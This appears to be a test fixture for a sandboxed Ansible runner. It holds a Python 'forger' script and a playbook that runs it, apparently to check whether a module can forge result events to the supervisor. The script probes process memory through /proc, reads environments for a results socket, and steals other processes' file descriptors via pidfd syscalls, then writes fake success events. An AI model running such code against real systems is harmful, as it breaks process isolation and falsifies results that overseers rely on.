/**
 * A program that a module starts on the controller. It tries every way to the descriptors and the
 * memory of the processes that run the play. It writes an event to each one that it reaches, and
 * prints which they were.
 */
export const FORGER = String.raw`import ctypes, glob, json, os, socket
libc = ctypes.CDLL(None, use_errno=True)
event = {"e": "result", "u": "t", "h": "forged", "s": "ok", "b": 1, "at": 2, "m": 0}
line = b"\n" + json.dumps(event).encode() + b"\n"

def read(path):
    try:
        with open(path, "rb") as file:
            return file.read(1 << 16)
    except OSError:
        return b""

def parent(pid):
    return int((read("/proc/%d/stat" % pid) or b") S 0").rpartition(b") ")[2].split()[1])

def write(descriptor, what):
    try:
        os.set_blocking(descriptor, False)
        os.write(descriptor, line)
        print("reached", what)
    except OSError:
        pass

def kind(path):
    try:
        return os.readlink(path).partition(":")[0]
    except OSError:
        return None

def take(pid, number):
    pidfd = libc.syscall(434, pid, 0)
    return libc.syscall(438, pidfd, number, 0)

def connect(path, who):
    try:
        channel = socket.socket(socket.AF_UNIX)
        channel.connect(path)
        channel.send(line)
        print("reached socket of", who)
    except OSError:
        print("tried socket of", who)

def is_play(pid):
    command = read("/proc/%d/cmdline" % pid)
    return b"ansible-playbook" in command and b"supervise.sh" not in command

def ancestors(pid):
    while pid > 1:
        pid = parent(pid)
        yield pid

main = [pid for pid in ancestors(os.getpid()) if is_play(pid)][-1]
for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
    command = read("/proc/%d/cmdline" % pid)
    if pid == main:
        who = "ansible"
        try:
            os.close(os.open("/proc/%d/mem" % pid, os.O_RDWR))
            print("reached memory of ansible")
        except OSError:
            pass
    elif main in ancestors(pid):
        who = "its own"
    elif b"supervise.sh" in command or b"bwrap" in command:
        who = "supervisor"
    else:
        continue
    for name in read("/proc/%d/environ" % pid).split(b"\0"):
        if name.startswith(b"CALLBOARD_RESULTS="):
            connect(name.partition(b"=")[2], who)
    for number in range(32):
        path = "/proc/%d/fd/%d" % (pid, number)
        # A pipe of a module is its answer, and the supervisor's asks it to end the run.
        if who == "ansible" and kind(path) in ("pipe", "socket"):
            try:
                write(os.open(path, os.O_WRONLY | os.O_NONBLOCK), "path of %s, %d" % (who, number))
            except OSError:
                pass
        taken = take(pid, number)
        if taken >= 0 and kind("/proc/self/fd/%d" % taken) == "socket":
            write(taken, "descriptor of %s, %d" % (who, number))
print("tried everything")
`;

/** A play whose module is the forger. */
export const FORGING = `- hosts: localhost
  gather_facts: false
  tasks:
    - name: Attack
      command: "{{ ansible_playbook_python }} {{ playbook_dir }}/forger.py"
      register: attack
    - debug: { var: attack.stdout_lines }
`;
